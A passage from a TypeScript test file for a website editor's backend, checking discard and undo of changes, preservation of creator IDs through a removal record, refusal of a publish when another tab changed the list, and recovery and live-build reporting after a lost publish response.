    ]);
    expect(saved).toMatchObject({ status: 'saved' });
    // The menu's saved link still needs the new page: it stays, and the author is told what to change first.
    expect(await backend.discardChange(PRESS)).toEqual({
      error: expect.stringMatching(
        /^Putting config\/pages\/press\.json back as it is live would leave the site with a problem: .*\/press.* Change that first, then undo again\.$/,
      ),
    });
    expect((await notRefused(backend.listFiles())).files.map((file) => file.path)).toContain(PRESS);
    // The menu first, then the page: both as they are live.
    expect(await backend.discardChange(NAVIGATION)).toEqual({ discarded: NAVIGATION });
    expect(await backend.discardChange(PRESS)).toEqual({ discarded: PRESS });
    expect((await notRefused(backend.listFiles())).files.map((file) => file.path)).not.toContain(PRESS);
    expect(await backend.discardChange(PRESS)).toEqual({ error: refusalWords('nothingToPutBack', PRESS) });
    // Nothing is left to publish, and a file outside what the editor changes is never put back by it.
    expect(await notRefused(backend.publishStatus())).toMatchObject({ changes: [] });
    expect(await backend.discardChange('README.md')).toEqual({ error: refusalWords('notAnEditorFile', 'README.md') });
  });

  it('puts a saved deletion back together with its record in Removed entries, so the creator keeps their id', async () => {
    const { backend } = await editorOf();
    const INFLUENCERS = 'config/collections/influencers.json';
    const REMOVED = 'config/removed.json';
    // A new creator is made in the list of creators (the rules of new entries are site-stores.test.ts').
    expect(await notRefused(backend.createEntry({ what: 'influencer', name: 'Esi Owusu' }, []))).toMatchObject({
      path: INFLUENCERS,
      file: { path: INFLUENCERS },
    });
    const opened = await notRefused(backend.openFile(INFLUENCERS));
    const list = JSON.parse(opened.text) as { influencers: { id: number; name: string }[] };
    const [gone, ...rest] = list.influencers;
    const saved = await backend.saveChanges([
      { path: INFLUENCERS, data: { ...list, influencers: rest }, baseVersion: opened.version },
    ]);
    expect(saved).toMatchObject({ status: 'saved' });
    // The save recorded their removal, so their id is never given to another creator.
    expect(JSON.parse((await notRefused(backend.openFile(REMOVED))).text)).toMatchObject({
      influencers: [expect.objectContaining({ id: gone!.id, name: gone!.name })],
    });
    // Undoing the deletion brings them back with their id, and their record goes with it: nothing is left to publish.
    expect(await backend.discardChange(INFLUENCERS)).toEqual({ discarded: INFLUENCERS });
    const back = JSON.parse((await notRefused(backend.openFile(INFLUENCERS))).text) as typeof list;
    expect(back.influencers.map((entry) => entry.id)).toContain(gone!.id);
    expect((await notRefused(backend.listFiles())).files.map((file) => file.path)).not.toContain(REMOVED);
    const status = await backend.publishStatus();
    expect('changes' in status ? status.changes : status).toEqual([]);
  });

  it('publishes exactly the list shown: a save in another tab meanwhile is refused, shown again, then published', async () => {
    const editor = await editorOf();
    const { store, write } = await pageOn(editor);
    write('Stories That Move Accra');
    await store.save();
    await store.publishing.openPublish();
    const shown = store.publishing.getState().status!;
    expect(shown.changes.map((change) => change.path)).toEqual([HOME]);
    await editor.anotherTabSaves('How fast can you start?');
    const before = editor.liveCommits();
    await store.publishing.publish();
    expect(store.publishing.getState().outcome).toMatchObject({ error: LIST_MOVED, listMoved: true });
    expect(editor.liveCommits()).toBe(before);
    // Shown again, with the other tab's save, in words; published as shown.
    const again = store.publishing.getState().status!;
    expect(again.listId).not.toBe(shown.listId);
    expect(again.changes.map((change) => [change.path, change.words]).sort()).toEqual([
      [FAQS, expect.stringMatching(/^FAQs: .*"How fast can you start\?"/)],
      [HOME, `Home page: heading of "${headingOf(readFileSync(join(SPEC_SITE_DIR, HOME), 'utf8'))}" changed`],
    ]);
    await store.publishing.publish();
    expect(store.publishing.getState().outcome).toMatchObject({ status: 'published' });
    expect([editor.live(), editor.liveCommits()]).toEqual(['Stories That Move Accra', before + 1]);
    expect((JSON.parse(editor.liveText(FAQS)) as { faqs: { question: string }[] }).faqs[0]!.question).toBe(
      'How fast can you start?',
    );
  });

  it('a publish whose answer was lost is found by its id: published, in words, nothing left to publish; then building, and "Live now" once the live site serves a build of the new commit', async () => {
    const editor = await editorOf();
    const { store, write } = await pageOn(editor);
    hostServesBuildOf(editor.liveCommit());
    write('Published, answer lost');
    await store.save();
    await store.publishing.openPublish();
    const before = editor.liveCommits();
    editor.loseNextAnswer('publish');
    await store.publishing.publish();
    const outcome = store.publishing.getState().outcome as { status: string; commit: string };
    expect(outcome).toMatchObject({ status: 'published', afterAll: 'found', commit: editor.liveCommit() });
    expect(afterAllInWords(outcome as never)).toMatch(
      /^Published: it reached the site although the answer was lost on the way\. $/,
    );
    expect([editor.live(), editor.liveCommits()]).toEqual(['Published, answer lost', before + 1]);
    // The drafts stand on it (the contract suite's lost publish tries that on each store): the list shown is empty.
    expect(store.publishing.getState().status?.changes).toEqual([]);
    // The live site still holds the commit before: building, and still building a while later.
    expect(store.publishing.getState().live?.words).toBe('Building the site…');
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(store.publishing.getState().live?.phase).toBe('building');
    hostServesBuildOf(outcome.commit);
    await vi.waitFor(() => expect(store.publishing.getState().live?.phase).toBe('live'), BUSY_MACHINE);
    expect(store.publishing.getState().live?.words).toMatch(/^Live now \(after \d+ s\)\.$/);
  });

  it('says "Live now" when the host built a teammate’s later commit, which holds the author’s', async () => {
    const editor = await editorOf();
    const { store, write } = await pageOn(editor);
    hostServesBuildOf(editor.liveCommit());
    write('Overtaken, still live');
    await store.save();
    await store.publishing.openPublish();
    await store.publishing.publish();
    expect(store.publishing.getState().live?.phase).toBe('building');
    // A teammate publishes right after; the host builds only the newest commit, which this editor has not seen.
    editor.teammatePublishes();
    hostServesBuildOf(editor.liveCommit());
    await vi.waitFor(() => expect(store.publishing.getState().live?.phase).toBe('live'), BUSY_MACHINE);
  });
});
